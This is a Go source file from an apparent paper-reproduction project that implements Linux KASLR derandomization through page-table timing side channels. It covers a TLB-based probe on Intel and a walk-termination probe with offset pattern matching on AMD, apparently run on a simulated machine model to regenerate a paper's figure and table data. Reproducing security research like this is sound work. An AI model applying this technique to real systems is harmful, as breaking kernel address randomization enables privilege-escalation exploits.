package core

import (
	"fmt"

	"repro/internal/fault"
	"repro/internal/linux"
	"repro/internal/paging"
	"repro/internal/uarch"
)

// OffsetSample is one probed kernel offset for the Figure 4 scatter.
type OffsetSample struct {
	Slot   int
	VA     paging.VirtAddr
	Cycles float64
	Mapped bool
}

// KernelBaseResult is the outcome of a kernel-base derandomization.
type KernelBaseResult struct {
	// Base is the recovered kernel text base (0 if none found).
	Base paging.VirtAddr
	// Slide is Base minus the region start (the KASLR slide).
	Slide uint64
	// Samples holds the per-offset measurements (the Fig. 4 data).
	Samples []OffsetSample
	// ProbeCycles is the cycle cost of the probing loop alone; TotalCycles
	// additionally includes calibration and decision logic (Table I's
	// "Probing" vs "Total" columns).
	ProbeCycles uint64
	TotalCycles uint64
}

// ProbeSeconds returns the probing runtime in seconds.
func (r KernelBaseResult) ProbeSeconds(p *uarch.Preset) float64 {
	return p.CyclesToSeconds(r.ProbeCycles)
}

// TotalSeconds returns the total runtime in seconds.
func (r KernelBaseResult) TotalSeconds(p *uarch.Preset) float64 {
	return p.CyclesToSeconds(r.TotalCycles)
}

// KernelBase derandomizes the Linux kernel text base (§IV-B).
//
// On Intel it probes all 512 candidate slots with the double-execution
// page-table attack (P2) and reports the first mapped slot. On AMD — where
// mapped kernel pages never enter the TLB, so P2 yields nothing — it falls
// back to the walk-termination-level attack (P3) against the kernel's five
// 4 KiB-structured pages, whose offsets from the base are build constants.
func KernelBase(p *Prober) (KernelBaseResult, error) {
	var res KernelBaseResult
	if err := p.M.Fire(fault.Probe); err != nil {
		return res, err
	}
	start := p.M.RDTSC()
	if p.M.Preset.Vendor == uarch.AMD {
		r, err := kernelBaseAMD(p)
		if err != nil {
			return r, err
		}
		res = r
	} else {
		res = kernelBaseIntel(p)
	}
	res.TotalCycles = p.M.RDTSC() - start + res.calibrationCycles(p)
	if res.Base != 0 {
		res.Slide = uint64(res.Base) - uint64(linux.TextRegionBase)
	}
	return res, nil
}

// calibrationCycles attributes the prober's one-time calibration cost to
// this attack's total runtime (the paper's Total column includes it).
func (KernelBaseResult) calibrationCycles(p *Prober) uint64 {
	n := uint64(p.Opt.CalibrationPages)
	per := uint64(p.M.Preset.MaskedStoreBase + p.M.Preset.AssistDirty +
		p.M.Preset.FenceOverhead + p.M.Preset.LoopOverhead)
	return n*per + 2*uint64(p.M.Preset.SyscallCost)
}

// kernelBaseIntel probes all 512 text slots through ScanMapped — the same
// sweep primitive the module and Windows attacks use — so it parallelizes
// under Options.Workers. Note this includes ScanMapped's min-of-3 healing
// re-probe of isolated verdict flips (at any worker setting), which the
// pre-engine slot loop did not have: same-seed Samples/ProbeCycles differ
// slightly from pre-engine revisions, in exchange for spike robustness.
func kernelBaseIntel(p *Prober) KernelBaseResult {
	var res KernelBaseResult
	probeStart := p.M.RDTSC()
	mapped, cycles := p.ScanMapped(linux.TextRegionBase, linux.TextSlots, paging.Page2M)
	res.ProbeCycles = p.M.RDTSC() - probeStart
	firstMapped := -1
	res.Samples = make([]OffsetSample, linux.TextSlots)
	for slot := 0; slot < linux.TextSlots; slot++ {
		va := linux.TextRegionBase + paging.VirtAddr(uint64(slot)<<21)
		res.Samples[slot] = OffsetSample{Slot: slot, VA: va, Cycles: cycles[slot], Mapped: mapped[slot]}
		if mapped[slot] && firstMapped < 0 {
			firstMapped = slot
		}
	}
	if firstMapped >= 0 {
		res.Base = linux.TextRegionBase + paging.VirtAddr(uint64(firstMapped)<<21)
	}
	return res
}

// PTTermThreshold returns the walk-termination decision threshold of the
// AMD attack: a PT-terminating walk reads one more paging structure than a
// PD-terminating one, and with evicted PTE lines that is one full memory
// access (~PTELineMiss cycles) — a robust margin.
func (p *Prober) PTTermThreshold() float64 {
	preset := p.M.Preset
	return preset.MaskedLoadBase + preset.AssistLoad + preset.FenceOverhead +
		(preset.Walk.PD+preset.Walk.PT)/2 + 3.5*preset.PTELineMiss
}

// AMDTermSamples is the per-slot sample count of the AMD term-level sweep.
// The level signal (one extra cold PTE line) is subtler than the Intel
// TLB-hit signal, so each slot is sampled 16× with targeted eviction and
// reduced by minimum — this is what makes the AMD probing ~1.9 ms instead
// of ~67 µs (Table I).
const AMDTermSamples = 16

// kernelBaseAMD mounts the §IV-B AMD attack: classify every slot by walk
// termination (a slot whose boundary walk reaches a PT is "4 KiB-
// structured"), then align the observed 4 KiB-slot pattern against the
// build-constant offsets of the five 4 KiB pages. The slot sweep runs on
// the sharded engine via ScanTermLevel, so it parallelizes under
// Options.Workers like every other large sweep.
func kernelBaseAMD(p *Prober) (KernelBaseResult, error) {
	var res KernelBaseResult
	probeStart := p.M.RDTSC()

	fourKSlots, cycles := p.ScanTermLevel(linux.TextRegionBase, linux.TextSlots,
		paging.Page2M, AMDTermSamples, p.PTTermThreshold())
	res.Samples = make([]OffsetSample, linux.TextSlots)
	for slot := 0; slot < linux.TextSlots; slot++ {
		va := linux.TextRegionBase + paging.VirtAddr(uint64(slot)<<21)
		res.Samples[slot] = OffsetSample{Slot: slot, VA: va, Cycles: cycles[slot], Mapped: fourKSlots[slot]}
	}
	res.ProbeCycles = p.M.RDTSC() - probeStart

	// Match the observed pattern against the known slot offsets of the
	// five 4 KiB pages.
	wantSlots := make([]int, 0, 5)
	for _, off := range linux.FourKOffsets() {
		wantSlots = append(wantSlots, int(off>>21))
	}
	bestBase, bestScore := -1, -1
	for base := 0; base < linux.TextSlots-linux.ImageSlots; base++ {
		score := 0
		for _, ws := range wantSlots {
			if fourKSlots[base+ws] {
				score++
			}
		}
		if score > bestScore {
			bestScore, bestBase = score, base
		}
	}
	if bestScore < len(wantSlots)-1 {
		return res, fmt.Errorf("core: AMD pattern match too weak (score %d/%d)", bestScore, len(wantSlots))
	}
	res.Base = linux.TextRegionBase + paging.VirtAddr(uint64(bestBase)<<21)
	return res, nil
}
